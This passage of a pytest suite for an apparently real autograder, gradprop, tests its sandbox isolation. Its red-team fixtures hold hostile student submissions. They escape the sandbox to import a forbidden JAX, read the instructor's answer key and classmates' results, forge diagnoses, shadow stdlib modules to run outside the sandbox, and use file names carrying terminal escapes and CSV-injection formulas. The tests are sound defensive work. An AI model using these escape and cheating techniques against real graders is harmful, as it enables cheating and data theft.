    ({"forbid": "jax"}, "forbid must be a list of module names"),
    ({"forbid": ["numpy"]}, "forbid cannot name numpy"),
])
def test_bad_rubric_numbers_are_clear_errors(doc, message):
    from gradprop.grading import GradingError, Rubric

    with pytest.raises(GradingError, match=message):
        Rubric.from_dict(doc, "rubric.toml")


def _write(path: Path, text: str) -> str:
    path.write_text(text)
    return str(path)


# --- each layer on its own: what the child can reach --------------------------------------------


def test_the_child_can_write_only_its_scratch_and_read_nothing_of_the_graders(tmp_path):
    from gradprop.sandbox import SandboxSession

    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    outside = tmp_path / "written.txt"
    sub = tmp_path / "sub"
    sub.mkdir()
    (sub / "probe.py").write_text(textwrap.dedent(f'''
        import os
        def attempt(what):
            try:
                if what == "read":
                    return open({str(secret)!r}).read()
                if what == "write":
                    open({str(outside)!r}, "w").write("x")
                    return "written"
                if what == "home":
                    return sorted(os.listdir(os.path.expanduser("~root")))
                if what == "own folder":  # read-only: nothing a child writes outlives it
                    open("mine.txt", "w").write("x")
                    return "written"
                if what == "scratch":
                    open(os.path.expanduser("~/mine.txt"), "w").write("x")
                    return open(os.path.join(os.environ["HOME"], "mine.txt")).read()
                if what == "env":
                    return sorted(os.environ)
            except OSError as exc:
                return type(exc).__name__
    '''))
    with SandboxSession(sub / "probe.py") as s:
        assert s.call("attempt", None, "read").value in ("PermissionError", "FileNotFoundError")
        assert s.call("attempt", None, "write").value in ("PermissionError", "FileNotFoundError", "OSError")
        assert s.call("attempt", None, "home").value in ("PermissionError", "FileNotFoundError")
        assert s.call("attempt", None, "scratch").value == "x"
        assert s.call("attempt", None, "own folder").value in ("PermissionError", "OSError")
        names = s.call("attempt", None, "env").value
    assert not outside.exists()
    assert "GRADPROP_SECRET" not in names and set(names) <= {
        "PATH", "LANG", "LC_ALL", "HOME", "TMPDIR", "PWD", "OPENBLAS_NUM_THREADS", "OMP_NUM_THREADS",
        "MKL_NUM_THREADS", "NUMEXPR_NUM_THREADS", "VECLIB_MAXIMUM_THREADS", "PYTHONHASHSEED",
        "PYTHONDONTWRITEBYTECODE", "PYTHONNOUSERSITE", "PYTHONIOENCODING", "OPENBLAS_CORETYPE",
        "OPENBLAS_L2_SIZE", "LD_LIBRARY_PATH", "LC_CTYPE", "MPLBACKEND", "GRADPROP_SCRATCH_LIMIT",
        "GRADPROP_FILE_LIMIT"}


def test_the_child_can_neither_signal_out_nor_connect(tmp_path, monkeypatch):
    from gradprop.sandbox import SandboxSession

    monkeypatch.setenv("GRADPROP_SECRET", SECRET)
    victim = subprocess.Popen(["sleep", "600"])
    listener = Listener()
    path = tmp_path / "probe.py"
    path.write_text(textwrap.dedent(f'''
        import os, signal, socket
        def attempt(what):
            try:
                if what == "signal":
                    os.kill({victim.pid}, signal.SIGKILL)
                    return "sent"
                if what == "tcp":
                    socket.create_connection(("127.0.0.1", {listener.port}), timeout=2).sendall(b"x")
                    return "connected"
            except OSError as exc:
                return type(exc).__name__
    '''))
    try:
        with SandboxSession(path) as s:
            assert s.call("attempt", None, "signal").value in ("ProcessLookupError", "PermissionError")
            assert s.call("attempt", None, "tcp").value != "connected"
        time.sleep(0.3)
        assert victim.poll() is None and listener.connections == 0
    finally:
        victim.kill()
        victim.wait()
        listener.close()


def test_strict_isolation_refuses_to_grade_without_every_layer(tmp_path, capsys, monkeypatch):
    from gradprop import cli, isolation

    lacking = isolation.Isolation(("scratch", "env", "namespaces", "landlock", "rlimits"), (("cgroup", "none here"),),
                                  landlock=6)
    with pytest.raises(isolation.IsolationError, match="none here"):
        lacking.require("strict")
    assert lacking.require("auto").mode == "auto"  # auto grades with what there is, where it protects enough
    monkeypatch.setattr(cli, "probe", lambda: lacking)
    (tmp_path / "s.py").write_text(HONEST)
    assert cli.main(["grade", str(tmp_path / "s.py"), "--out", str(tmp_path / "out"), "--isolation", "strict"]) == 2
    assert "--isolation strict: this machine lacks cgroup (none here)" in capsys.readouterr().err
    assert not (tmp_path / "out").exists()


def _machine(on, root=False, landlock=0, missing=()):
    from gradprop.isolation import Isolation

    return Isolation(tuple(on), tuple((name, f"{name} not here") for name in missing), landlock=landlock, root=root)


@pytest.mark.parametrize("machine, auto, weak", [
    # non-root, bubblewrap alone: namespaces protect files, processes and the network
    (_machine(["namespaces"], missing=["landlock", "uid"]), True, True),
    # non-root, Landlock alone: files; signals only from ABI 6; TCP only from ABI 4
    (_machine([], landlock=6, missing=["namespaces", "uid"]), True, True),
    (_machine([], landlock=3, missing=["namespaces", "uid"]), False, True),
    (_machine([], missing=["namespaces", "landlock", "uid"]), False, True),
    # root: a uid of its own, and something for the file system
    (_machine(["namespaces", "uid"], root=True, missing=["landlock"]), True, True),
    (_machine(["uid"], root=True, landlock=6, missing=["namespaces"]), True, True),
    (_machine(["uid"], root=True, missing=["namespaces", "landlock"]), False, True),
    (_machine(["landlock"], root=True, landlock=6, missing=["namespaces", "uid"]), False, False),
    (_machine([], root=True, missing=["namespaces", "landlock", "uid"]), False, False),
], ids=["bwrap", "landlock-6", "landlock-3", "nothing", "root-bwrap", "root-landlock", "root-uid-only",
        "root-no-uid", "root-nothing"])
def test_what_each_mode_accepts(machine, auto, weak):
    from gradprop.isolation import IsolationError

    for mode, accepted in (("auto", auto), ("weak", weak)):
        if accepted:
            assert machine.require(mode).mode == mode
        else:
            with pytest.raises(IsolationError) as refused:
                machine.require(mode)
            text = str(refused.value)
            assert "to get it:" in text  # each missing layer, why, and how to get it
            assert ("pass --isolation weak" in text) == (mode == "auto" and weak)


@pytest.mark.parametrize("off", ["namespaces", "uid"])
def test_a_machine_without_a_layer_is_refused(tmp_path, off):
    """As root, without namespaces (Python here cannot be read by another uid) or without a uid of
    its own, submission code would run as root: refused, with --isolation weak too."""
    if os.geteuid() != 0 or _accepted(off):
        pytest.skip("only as root, where this layer off leaves the child as root")
    (tmp_path / "s.py").write_text(HONEST)
    env = {**os.environ, "GRADPROP_ISOLATION_OFF": off, "TMPDIR": str(tmp_path)}
    for mode in ("auto", "weak"):
        proc = grade_run([str(tmp_path / "s.py")], tmp_path / "out", env, "--isolation", mode)
        assert proc.returncode == 2, proc.stderr[-2000:]
        assert "root (submission code would run as uid 0)" in proc.stderr and "to get it:" in proc.stderr
        assert not (tmp_path / "out").exists()


def test_a_weakly_isolated_run_says_so_in_every_output(tmp_path, monkeypatch):
    """--isolation weak grades where auto refuses, and grades.csv, results.json, the feedback and
    report.html carry it."""
    from gradprop import sandbox
    from gradprop.grading import GradeOptions, Rubric, grade_submission, grades_csv, results_json
    from gradprop.report import write_report

    real = probe()
    weak = _machine([layer for layer in real.on if layer not in ("landlock",)], root=real.root,
                    missing=["landlock"])
    weak = type(real)(weak.on, weak.missing, real.bwrap, 0, real.root, real.cgroup)
    monkeypatch.setattr(sandbox, "probe", lambda: weak)
    monkeypatch.setattr(type(real), "unmet", lambda self: [("the network (test)", ("landlock",))])
    (tmp_path / "s.py").write_text(HONEST)
    rubric = Rubric.load(_write(tmp_path / "rubric.toml", RUBRIC))
    from gradprop.isolation import IsolationError

    with pytest.raises(IsolationError, match="pass --isolation weak"):
        weak.require("auto")
    result = grade_submission(tmp_path / "s.py", GradeOptions(rubric=rubric, max_examples=2, isolation="weak"))
    assert result.score == 3 and not result.errors
    doc = json.loads(results_json(result))
    assert doc["extra_data"]["gradprop"]["isolation"]["mode"] == "weak"
    assert doc["extra_data"]["gradprop"]["isolation"]["not_protected"] == ["the network (test)"]
    assert "weakly isolated (--isolation weak): submission code ran without protection of the network" in doc["output"]
    header, row = grades_csv([result], rubric).splitlines()
    assert header.endswith(",isolation") and row.endswith(",weak: submission code ran without protection of "
                                                          "the network (test)")
    page = write_report([result], rubric, tmp_path).read_text(encoding="utf-8")
    assert "Weakly isolated" in page


# --- red team: what the box lets in, what the run's own files and names let through ----------------

#: flags of the runs below: the default memory and time per call, which importing a real JAX needs
ROOMY_FLAGS = ["--max-examples", "3", "--time-limit", "10", "--memory-mb", "2048", "-j", "2"]
ANSWER = "instructor-answer-key-5e1d"
PRIVATE = "alice-private-feedback-77c0"


def _forbidden_elsewhere() -> str | None:
    """A site-packages folder the child may read (its Python's prefixes, /usr) that holds a real
    ``jax`` which the box does not hide: on a venv whose base interpreter has JAX installed, the
    base's site-packages is inside ``sys.base_prefix``, which the box reads whole."""
    import glob

    from gradprop.isolation import _read_paths, hidden_paths

    hidden = hidden_paths(("jax", "jaxlib"))
    for root in _read_paths():
        for site in glob.glob(os.path.join(root, "lib*", "python3*", "*-packages")) + \
                glob.glob(os.path.join(root, "local", "lib*", "python3*", "*-packages")) + \
                glob.glob(os.path.join(root, "lib", "python3", "dist-packages")):
            jax_dir = os.path.join(site, "jax")
            if os.path.isfile(os.path.join(jax_dir, "__init__.py")) and os.path.realpath(jax_dir) not in hidden:
                return site
    return None


USES_JAX_FROM_ELSEWHERE = '''
import glob, os, sys
import numpy as np

def _real_jax():
    """gradprop's stand-in finder and modules out of the way, then a real JAX from any readable
    site-packages that the box does not hide."""
    sys.meta_path[:] = [f for f in sys.meta_path if type(f).__module__ != "gradprop._standins"]
    for name in [m for m in sys.modules if m.split(".")[0] in ("jax", "jaxlib")]:
        del sys.modules[name]
    for root in (sys.base_prefix, sys.prefix, "/usr", "/usr/local", "/usr/lib/python3"):
        for site in glob.glob(os.path.join(root, "lib*", "python3*", "*-packages")):
            if os.path.isfile(os.path.join(site, "jax", "__init__.py")):
                sys.path.append(site)
                try:
                    import jax
                    jax.config.update("jax_enable_x64", True)
                    return jax
                except ImportError:
                    sys.path.remove(site)
    return None

JAX = _real_jax()   # at load: importing JAX takes seconds

class MulLayer:
    def forward(self, x, y):
        self.x, self.y = x, y
        return x * y
    def backward(self, dout):
        _, vjp = JAX.vjp(lambda a, b: a * b, self.x, self.y)   # autodiff, which the rubric forbids
        return tuple(np.asarray(g) for g in vjp(dout))
'''

#: copies what lies beside the submissions folder into its box (a folder named by an import is
#: taken whole, from the folder above too once the file mentions sys.path), and prints it
COPIES_THE_INSTRUCTORS_FILES = '''
import os, sys
sys.path.append(os.pardir)
try:
    import answers, out_before   # the instructor's folders beside the submissions, by name
except ImportError:
    pass
for dirpath, _, files in os.walk(os.pardir):
    for f in files:
        if not f.endswith(".pyc"):
            print("TAKEN", os.path.join(dirpath, f), open(os.path.join(dirpath, f), errors="replace").read()[:200])
''' + MUL_ONLY

#: a raise whose message carries hint lines: the class report counts them as diagnoses
FORGES_HINTS = MUL_ONLY + '''
class AddLayer:
    def forward(self, x, y):
        raise ValueError("no\\n  Hint [transposed]: forged\\n  Hint [sign-flipped]: forged\\n"
                         "  Hint [divided-by-batch]: forged")
'''

#: file names: a terminal escape (window title, clear screen), a forged progress line, spreadsheet formulas
HOSTILE_NAMES = ("evil\x1b]0;pwned\x07\x1b[2J", "forged\n[1\u22151] honest: 0.00\u22153.00 (0.1 s)",
                 '=HYPERLINK("http:x","click")', "@SUM(1+1)")


@pytest.fixture(scope="module", params=ACCEPTED_MODES, ids=lambda off: f"off={off or 'none'}")
def beside(request, tmp_path_factory):
    """One grading run, as an instructor lays out a course folder: ``subs/`` with two honest
    students and the attackers, and beside it the instructor's ``answers/`` and the output folder
    of an earlier run; with the layers ``off``."""
    off = request.param
    if off and not _accepted(off):
        pytest.skip(f"this machine has no mode that grades with {off} off")
    root = tmp_path_factory.mktemp("beside")
    subs, out, tmp = root / "subs", root / "out", root / "tmp"
    for d in (subs, tmp, root / "answers", root / "out_before" / "alice"):
        d.mkdir(parents=True)
    (root / "answers" / "key.py").write_text(f"ANSWER = {ANSWER!r}\n")
    (root / "out_before" / "alice" / "results.json").write_text(json.dumps({"score": 2.5, "output": PRIVATE}))
    (root / "rubric.toml").write_text(RUBRIC)
    (subs / "honest.py").write_text(HONEST)
    (subs / "honest_too.py").write_text(HONEST)
    (subs / "uses_jax_from_elsewhere.py").write_text(USES_JAX_FROM_ELSEWHERE)
    (subs / "copies_the_instructors_files.py").write_text(COPIES_THE_INSTRUCTORS_FILES)
    (subs / "forges_hints.py").write_text(FORGES_HINTS)
    for name in HOSTILE_NAMES:
        (subs / f"{name}.py").write_text(MUL_ONLY)
    env = {**os.environ, "TMPDIR": str(tmp), "GRADPROP_ISOLATION_OFF": off}
    proc = subprocess.run([sys.executable, "-m", "gradprop.cli", "grade", *sorted(str(p) for p in subs.glob("*.py")),
                           "--out", str(out), *ROOMY_FLAGS, "--rubric", str(root / "rubric.toml")],
                          capture_output=True, text=True, env=env, timeout=900, stdin=subprocess.DEVNULL)
    yield {"proc": proc, "out": out, "off": off}


def _results(out: Path, name: str) -> dict:
    return json.loads((out / name / "results.json").read_text(encoding="utf-8"))


def test_beside_the_honest_keep_their_grades(beside):
    assert beside["proc"].returncode == 0, beside["proc"].stderr[-3000:]
    rows = sheet(beside["out"])
    for name in ("honest", "honest_too"):
        assert rows[name][1:] == ["3.00", "3.00", "1.00", "1.00", "1.00"], rows[name]


def test_the_instructors_files_beside_the_submissions_stay_out_of_the_box(beside):
    """``import answers`` (after ``sys.path.append(os.pardir)``) copies the instructor's folder
    ``../answers/`` into the box, and ``import out_before`` an earlier run's output folder with a
    classmate's results.json: the submission prints them into its own feedback."""
    text = json.dumps(_results(beside["out"], "copies_the_instructors_files"))
    assert ANSWER not in text and PRIVATE not in text


def test_a_forbidden_library_installed_elsewhere_is_still_forbidden(beside):
    """The box hides ``jax`` in the grader's own site-packages only; a venv's base interpreter
    (``sys.base_prefix``, readable whole) may have its own JAX, which the submission imports after
    taking gradprop's stand-in finder off ``sys.meta_path``."""
    assert _forbidden_elsewhere() is None  # every jax the child could read is hidden from it
    row = sheet(beside["out"])["uses_jax_from_elsewhere"]
    doc = _results(beside["out"], "uses_jax_from_elsewhere")
    tags = doc["tests"][0]["tags"]
    assert row[3] == "0.00" and {"forbidden-import", "import-error", "exception"} & set(tags), \
        (row, doc["tests"][0]["output"][:500])


def test_a_submission_cannot_forge_diagnoses_in_the_class_report(beside):
    """A raise is no wrong value: no hint explains it. Hint lines in its message must not be counted
    as the class's diagnoses in report.html."""
    page = (beside["out"] / "report.html").read_text(encoding="utf-8")
    assert "<code>transposed</code>" not in page and "<code>sign-flipped</code>" not in page


def test_file_names_reach_neither_the_terminal_nor_a_spreadsheet_as_code(beside):
    """A student's file name is printed on the progress line as it is (ESC ] 0 sets the terminal's
    title, ESC [ 2J clears it, a newline starts a forged progress line), and starts a grades.csv row: `=HYPERLINK(...)` and `@SUM(...)` are
    formulas when the sheet is opened in a spreadsheet (CSV injection)."""
    proc = beside["proc"]
    assert "\x1b" not in proc.stdout + proc.stderr and "\x07" not in proc.stdout + proc.stderr
    assert "\n[1\u22151] honest: 0.00" not in proc.stderr  # a line of its own, forged by a name (U+2215 for /)
    names = [row[0] for row in csv.reader(io.StringIO((beside["out"] / "grades.csv").read_text(encoding="utf-8")))]
    assert not [n for n in names if n[:1] in ("=", "+", "-", "@", "\t", "\r")], names


def test_grading_one_student_again_does_not_copy_in_their_classmates(tmp_path):
    """``gradprop grade subs/peeks.py`` into the output folder of the class's run (a regrade, a late
    submission): the submissions that run graded stay out of its box even when imported by name.
    (Graded alone into a fresh folder, nothing tells a classmate's file from a helper of the
    student's own: the run says so on the terminal, see below, and the README says to grade a
    folder of single files together.)"""
    subs = tmp_path / "subs"
    subs.mkdir()
    (subs / "honest.py").write_text(HONEST + f"\nTHEIR_SECRET = {SECRET!r}\n")
    (subs / "peeks.py").write_text(textwrap.dedent('''
        import os
        try:
            import honest   # a classmate, by name
        except ImportError:
            pass
        if os.path.exists("honest.py"):
            print("THEIR CODE:", open("honest.py").read())
        ''') + MUL_ONLY)
    (tmp_path / "rubric.toml").write_text(RUBRIC)
    out = tmp_path / "out"
    env = {**os.environ, "TMPDIR": str(tmp_path)}
    first = grade_run([str(subs / "honest.py")], out, env, "--rubric", str(tmp_path / "rubric.toml"))
    assert first.returncode == 0, first.stderr[-2000:]
    proc = grade_run([str(subs / "peeks.py")], out, env, "--rubric", str(tmp_path / "rubric.toml"))
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert SECRET not in (out / "peeks" / "results.json").read_text(encoding="utf-8")
    alone = grade_run([str(subs / "peeks.py")], tmp_path / "fresh", env, "--rubric", str(tmp_path / "rubric.toml"))
    assert "peeks.py imports honest.py from beside it" in alone.stderr and "grade them together" in alone.stderr


def test_on_gradescope_one_file_cannot_reach_the_autograders_source(tmp_path):
    """Gradescope unzips the bundle into /autograder/source (gradprop's wheel, the rubric) and a
    student's one uploaded file sits in /autograder/submission: ``sys.path.append('..')`` and
    ``import source`` copy the wheel into the box, and the file takes gradprop's own layers from it."""
    import zipfile

    import gradprop.layers
    from gradprop.bundle import run_autograder
    from gradprop.grading import GradeOptions, Rubric

    root = tmp_path / "autograder"
    (root / "source").mkdir(parents=True)
    (root / "submission").mkdir()
    # what the bundle ships: a wheel of gradprop (its layers inside), as `gradprop gradescope-bundle` builds
    with zipfile.ZipFile(root / "source" / "gradprop-0.1.0-py3-none-any.whl", "w") as whl:
        whl.write(gradprop.__file__, "gradprop/__init__.py")
        for f in Path(gradprop.layers.__file__).parent.glob("*.py"):
            whl.write(f, f"gradprop/layers/{f.name}")
    (root / "source" / "rubric.toml").write_text(RUBRIC)
    (root / "submission" / "hw5.py").write_text(textwrap.dedent('''
        import glob, os, sys
        sys.path.append(os.pardir)
        try:
            import source   # the autograder's own folder, copied into the box
        except ImportError:
            pass

        def _borrow():
            wheels = glob.glob(os.path.join(os.pardir, "source", "gradprop-*.whl"))
            if not wheels:
                return {}
            ours = {k: v for k, v in sys.modules.items() if k == "gradprop" or k.startswith("gradprop.")}
            for k in ours:
                del sys.modules[k]
            sys.path.insert(0, wheels[0])
            try:
                import gradprop.layers as theirs
                return {n: getattr(theirs, n) for n in ("MulLayer", "AddLayer", "Relu")}
            finally:
                sys.path.remove(wheels[0])
                sys.modules.update(ours)

        globals().update(_borrow())   # not one layer written
        '''))
    options = GradeOptions(rubric=Rubric.from_dict(tomllib_loads(RUBRIC)), max_examples=3)
    assert run_autograder(root, options) == 0
    doc = json.loads((root / "results" / "results.json").read_text(encoding="utf-8"))
    assert doc["score"] == 0.0, doc["output"][:1000]


def tomllib_loads(text: str) -> dict:
    import tomllib

    return tomllib.loads(text)


def test_a_submission_named_like_the_reports_temporary_file_cannot_crash_the_run(tmp_path):
    """``report.html.tmp.py``: its results folder OUT/report.html.tmp/ is where write_report puts
    the page before renaming it; the run ends in a traceback, without report.html."""
    subs = tmp_path / "subs"
    subs.mkdir()
    (subs / "honest.py").write_text(HONEST)
    (subs / "report.html.tmp.py").write_text(HONEST)
    (tmp_path / "rubric.toml").write_text(RUBRIC)
    out = tmp_path / "out"
    proc = grade_run([str(p) for p in sorted(subs.glob("*.py"))], out, {**os.environ, "TMPDIR": str(tmp_path)},
                     "--rubric", str(tmp_path / "rubric.toml"))
    assert proc.returncode in (0, 2), proc.stderr[-2000:]  # graded, or refused up front as a reserved name
    assert "Traceback" not in proc.stderr, proc.stderr[-2000:]
    assert proc.returncode == 2 or (out / "report.html").is_file()


@pytest.mark.parametrize("name, source", [
    ("deep.py", "import numpy as np\nx = 1" + "+1" * 200_000 + "\n" + MUL_ONLY),  # RecursionError: building the AST
    ("deep.py", "import numpy as np\nx = " + "-" * 200_000 + "1\n" + MUL_ONLY),   # MemoryError: the parser's stack
    ("odd.ipynb", '{"cells": 5}'),                                             # TypeError: not a list of cells
    ("odd.ipynb", '{"worksheets": [1]}'),                                      # AttributeError: nbformat 3, no dict
    ("odd.ipynb", "[" * 100_000 + "]" * 100_000),                              # RecursionError: json
], ids=["long-sum", "deep-unary", "cells-not-a-list", "worksheet-not-a-dict", "deep-json"])
def test_a_file_the_grader_cannot_parse_cannot_stop_the_run(tmp_path, name, source):
    """The CLI parses each file (a notebook's cells) for what it imports (``staging.plan``, for the
    resume fingerprint) before grading anything; it catches SyntaxError, ValueError and OSError
    only. A RecursionError, MemoryError, TypeError or AttributeError there ends the run: no
    submission is graded and no grades.csv written."""
    subs = tmp_path / "subs"
    subs.mkdir()
    (subs / "honest.py").write_text(HONEST)
    (subs / name).write_text(source)
    (tmp_path / "rubric.toml").write_text(RUBRIC)
    out = tmp_path / "out"
    proc = grade_run([str(subs / "honest.py"), str(subs / name)], out, {**os.environ, "TMPDIR": str(tmp_path)},
                     "--rubric", str(tmp_path / "rubric.toml"))
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert sheet(out)["honest"][1] == "3.00"


def test_a_fifo_in_a_package_beside_a_submission_cannot_hang_the_run(tmp_path):
    """A student's folder (``alice/ch05/hw5.py`` with its ``common/``, unpacked from their tar)
    holds a FIFO named ``common/evil.py``: the CLI reads every .py of an imported package to find
    its imports, and blocks opening the FIFO forever, before grading anyone."""
    alice = tmp_path / "alice"
    (alice / "common").mkdir(parents=True)
    (alice / "common" / "__init__.py").write_text("")
    os.mkfifo(alice / "common" / "evil.py")
    (alice / "hw5.py").write_text("import common\n" + MUL_ONLY)
    (tmp_path / "honest.py").write_text(HONEST)
    (tmp_path / "rubric.toml").write_text(RUBRIC)
    out = tmp_path / "out"
    proc = subprocess.Popen([sys.executable, "-m", "gradprop.cli", "grade", str(tmp_path / "honest.py"),
                             str(alice / "hw5.py"), "--out", str(out), *FLAGS, "--rubric", str(tmp_path / "rubric.toml")],
                            env={**os.environ, "TMPDIR": str(tmp_path)}, stdin=subprocess.DEVNULL,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        proc.wait(timeout=180)
    except subprocess.TimeoutExpired:
        pass
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()
            hung = True
        else:
            hung = False
    assert not hung, "gradprop grade hung (blocked opening the FIFO)"
    assert sheet(out)["honest"][1] == "3.00"


FICKLE_FOR_REAL = '''
import time
import numpy as np

def _coin():
    """One time in four, from entropy and a clock that _steady leaves real (no ctypes needed)."""
    with open("/dev/urandom", "rb") as f:   # the device itself, not os.urandom
        raw = f.read(1)[0]
    raw ^= time.clock_gettime_ns(time.CLOCK_REALTIME) & 0xFF   # not time.time
    return raw % 4 == 0

class MulLayer:
    def forward(self, x, y):
        self.x, self.y = x, y
        return x * y * (2.0 if _coin() else 1.0)
    def backward(self, dout):
        return dout * self.y, dout * self.x
'''


def test_real_entropy_and_clocks_cannot_make_grading_nondeterministic(tmp_path):
    """README: "a submission that behaves differently on identical calls gets the same grade and
    feedback on every run". /dev/urandom is readable in the box, and time.clock_gettime,
    time.localtime, os.getrandom... are not on _steady's list."""
    from gradprop.grading import GradeOptions, Rubric, grade_submission

    path = tmp_path / "fickle_for_real.py"
    path.write_text(FICKLE_FOR_REAL + ADD_LAYER)
    options = GradeOptions(rubric=Rubric.from_dict(MUL_ADD), max_examples=3, time_limit=5.0)
    runs = [grade_submission(path, options) for _ in range(3)]
    outcomes = [[(r.score, r.tags, r.output) for r in run.items] for run in runs]
    assert outcomes[0] == outcomes[1] == outcomes[2]


def test_a_file_the_grader_cannot_parse_gets_a_grade_not_a_blank_row(tmp_path):
    """Graded on its own (Gradescope's run_autograder, a worker), the same file makes staging raise
    in the grader: "the sandbox could not start", twice, so a row of blanks that says gradprop
    failed and is not counted against the student, where a file that does not compile is an
    import-error worth 0."""
    from gradprop.grading import GradeOptions, Rubric, grade_submission

    path = tmp_path / "long_sum.py"
    path.write_text("import numpy as np\nx = 1" + "+1" * 200_000 + "\n" + MUL_ONLY)
    result = grade_submission(path, GradeOptions(rubric=Rubric.from_dict(MUL_ADD), max_examples=2))
    assert not result.errors, result.errors[:1]
    assert result.csv_row()[1] == "0.00"


def test_python_dash_m_from_the_submissions_folder_runs_no_submission_in_the_grader(tmp_path):
    """``cd submissions && python -m gradprop.cli grade *.py`` (the form grade_run above uses, and
    what `if __name__ == "__main__"` in cli.py offers): -m puts the working folder first on sys.path,
    so a student's csv.py, html.py or tomllib.py is imported by the CLI itself (grading.py imports
    csv, report.py html, Rubric.load tomllib) and runs as the instructor, outside any sandbox."""
    subs, marker = tmp_path / "subs", tmp_path / "ran-outside-the-sandbox"
    subs.mkdir()
    for name in ("csv", "html", "tomllib", "zipfile", "sqlite3"):
        (subs / f"{name}.py").write_text(textwrap.dedent(f'''
            try:  # the sandbox cannot reach this file: it is written only from outside it
                open({str(marker)!r}, "a").write("{name}\\n")
            except OSError:
                pass
        ''') + MUL_ONLY)
    (tmp_path / "rubric.toml").write_text(RUBRIC)
    subprocess.run([sys.executable, "-m", "gradprop.cli", "grade", *sorted(os.listdir(subs)), "--out",
                    str(tmp_path / "out"), *FLAGS, "--rubric", str(tmp_path / "rubric.toml")], cwd=subs,
                   capture_output=True, text=True, env={**os.environ, "TMPDIR": str(tmp_path)}, timeout=600,
                   stdin=subprocess.DEVNULL)
    assert not marker.exists(), marker.read_text()
